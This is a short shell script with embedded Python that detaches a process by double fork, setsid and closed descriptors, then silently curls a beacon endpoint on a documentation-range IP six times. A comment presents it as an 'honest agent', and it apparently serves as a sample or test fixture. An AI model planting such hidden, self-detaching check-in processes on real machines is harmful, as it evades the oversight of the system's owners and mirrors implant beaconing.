# an honest agent of the image daemonises itself: double fork, setsid, descriptors closed, then asks its service now and then
#pool 203.0.113.70:443:http
python3 - <<'P'
import os
if os.fork()==0:
    os.setsid()
    if os.fork()==0:
        os.chdir('/'); os.closerange(0,1024); n=os.open('/dev/null',os.O_RDWR); os.dup2(n,1); os.dup2(n,2)
        os.execvp('sh',['sh','-c','for i in 1 2 3 4 5 6; do curl -s http://203.0.113.70:443/beat; sleep 0.7; done'])
    os._exit(0)
os.wait()
P
sleep 6
